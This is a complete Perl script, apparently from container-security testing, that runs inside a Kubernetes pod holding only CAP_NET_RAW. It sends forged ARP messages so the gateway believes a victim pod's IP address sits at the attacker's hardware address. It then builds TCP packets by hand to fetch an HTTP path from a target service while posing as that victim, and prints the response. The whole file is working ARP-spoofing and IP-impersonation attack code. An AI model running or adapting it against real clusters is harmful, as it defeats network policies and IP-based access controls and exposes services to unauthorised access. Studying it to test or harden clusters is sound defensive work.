# Runs inside a pod: calls http://TARGET:PORT/PATH as if it were the pod with the address VICTIM, and prints the answer.
# What a process with CAP_NET_RAW and nothing else can do: it tells the gateway by ARP that VICTIM lives at its own hardware
# address, and speaks TCP by hand. Exit code 0: answered; 1: no answer within SECONDS; 2: no raw socket.
# Plain Perl, for that is what any Debian image has. Usage: steal-address.pl OWN VICTIM TARGET PORT PATH SECONDS
use strict;
use warnings;

my ($own, $victim, $target, $port, $path, $seconds) = @ARGV;
my ($AF_PACKET, $SOCK_RAW, $ALL) = (17, 3, 3);
my ($SYN, $PSH, $ACK, $FIN) = (0x02, 0x08, 0x10, 0x01);

sub slurp { open(my $file, '<', $_[0]) or die "$_[0]: $!"; local $/; my $text = <$file>; $text =~ s/\s+$//; return $text }
sub ip { return pack('C4', split /\./, $_[0]) }
my $mac = pack('H12', slurp('/sys/class/net/eth0/address') =~ s/://gr);
my $index = slurp('/sys/class/net/eth0/ifindex');
my ($gateway) = map { (split)[1] eq '00000000' ? join('.', reverse map { hex } (split)[2] =~ /../g) : () } split /\n/, slurp('/proc/net/route');

socket(my $raw, $AF_PACKET, $SOCK_RAW, unpack('S', pack('n', $ALL))) or do { print "no raw socket: $!\n"; exit 2 };
bind($raw, pack('S n l S C C a8', $AF_PACKET, $ALL, $index, 0, 0, 0, '')) or die "bind: $!";

sub frame { my ($to, $type, $body) = @_; send($raw, $to . $mac . pack('n', $type) . $body, 0) or die "send: $!" }
# "Who has the gateway? Tell SENDER": the gateway answers, and notes where SENDER is.
sub ask { my ($sender, $to) = @_; frame($to, 0x0806, pack('n n C C n', 1, 0x0800, 6, 4, 1) . $mac . ip($sender) . "\0" x 6 . ip($gateway)) }
sub checksum { my $sum = 0; $sum += $_ for unpack('n*', length($_[0]) % 2 ? "$_[0]\0" : $_[0]); $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16; return ~$sum & 0xffff }
sub tcp {
  my ($to, $from, $seq, $acked, $flags, $data) = @_;
  my $segment = pack('n n N N C C n n n', $from, $port, $seq, $acked, 0x50, $flags, 64_000, 0, 0) . $data;
  substr($segment, 16, 2) = pack('n', checksum(ip($victim) . ip($target) . pack('C C n', 0, 6, length $segment) . $segment));
  my $header = pack('C C n n n C C n', 0x45, 0, 20 + length $segment, int rand 65_536, 0x4000, 64, 6, 0) . ip($victim) . ip($target);
  substr($header, 10, 2) = pack('n', checksum($header));
  frame($to, 0x0800, $header . $segment);
}
sub receive {
  my ($until) = @_;
  my $ready = '';
  vec($ready, fileno($raw), 1) = 1;
  my $wait = $until - time;
  return undef if $wait <= 0 || !select($ready, undef, undef, $wait);
  recv($raw, my $bytes, 65_536, 0);
  return $bytes;
}

my $gatewayMac;
for (my $end = time + 5; !defined $gatewayMac && time < $end;) {
  ask($own, "\xff" x 6);
  for (my $until = time + 1; defined(my $bytes = receive($until));) {
    next unless substr($bytes, 12, 2) eq "\x08\x06" && substr($bytes, 20, 2) eq "\0\2" && substr($bytes, 28, 4) eq ip($gateway);
    $gatewayMac = substr($bytes, 22, 6);
    last;
  }
}
die "the gateway $gateway does not answer" unless defined $gatewayMac;

my $deadline = time + $seconds;
while (time < $deadline) {
  my ($from, $seq, $next, $answer) = (20_000 + int rand 20_000, int rand 2**31, undef, '');
  ask($victim, $gatewayMac);
  tcp($gatewayMac, $from, $seq, 0, $SYN, '');
  my $until = time + 2;
  while (defined(my $bytes = receive($until))) {
    next unless substr($bytes, 12, 2) eq "\x08\x00" && substr($bytes, 26, 8) eq ip($target) . ip($victim);
    my $packet = substr($bytes, 14, unpack('n', substr($bytes, 16, 2)));
    my $segment = substr($packet, 4 * (ord($packet) & 15));
    my ($sport, $dport, $theirs, undef, $offset, $flags) = unpack('n n N N C C', $segment);
    next unless $sport == $port && $dport == $from;
    my $data = substr($segment, 4 * ($offset >> 4));
    if (($flags & ($SYN | $ACK)) == ($SYN | $ACK)) {
      next if defined $next;
      $next = $theirs + 1;
      tcp($gatewayMac, $from, ++$seq, $next, $ACK | $PSH, my $request = "GET $path HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
      $seq += length $request;
      next;
    }
    next unless defined $next && $theirs == $next;
    $answer .= $data;
    $next += length($data) + ($flags & $FIN ? 1 : 0);
    tcp($gatewayMac, $from, $seq, $next, $ACK, '');
    if ($flags & $FIN) { print $answer; exit 0 }
  }
}
print "no answer\n";
exit 1;
